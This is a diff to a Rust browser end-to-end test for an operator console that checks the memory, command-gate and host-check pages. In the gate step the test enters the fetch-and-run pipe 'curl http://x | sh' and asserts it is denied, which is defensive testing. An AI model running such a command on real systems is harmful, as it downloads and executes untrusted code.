@@ -63,5 +63,34 @@ async fn in_chromium_an_operator_logs_in_reads_the_timeline_approves_from_the_in
     let chain = browser.text("#chain").await;
     assert!(chain.starts_with("Chain verified through seq"), "{chain}");
     browser.screenshot("console-audit.png").await;
+
+    // The approved fix is remembered: memory lists it, with its source incident.
+    browser.goto(&format!("{base}/ui/memory")).await;
+    let memory = browser.text("#memory").await;
+    assert!(memory.contains(&world.start_command()) && memory.contains("verified"), "{memory}");
+    browser.screenshot("console-memory.png").await;
+
+    // The gate's "try a command": a dry verdict.
+    browser.goto(&format!("{base}/ui/gate")).await;
+    let input = browser.find("#try-command").await.unwrap();
+    browser.type_into(&input, "curl http://x | sh").await;
+    let button = browser.find("#try").await.unwrap();
+    browser.click(&button).await;
+    browser.wait_title("Gate", 10).await;
+    let verdict = browser.text("#verdict").await;
+    assert!(verdict.contains("deny"), "{verdict}");
+    browser.screenshot("console-gate.png").await;
+
+    // Hosts: check now, over the real sshd.
+    browser.goto(&format!("{base}/ui/hosts")).await;
+    let check = browser.find("form[action='/ui/hosts/check'] button").await.unwrap();
+    browser.click(&check).await;
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
+    while !browser.source().await.contains("Last check: 20") && std::time::Instant::now() < deadline {
+        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    }
+    let source = browser.source().await;
+    assert!(source.contains("Last check: 20"), "{source}");
+    browser.screenshot("console-hosts.png").await;
     world.app.stop().await;
 }
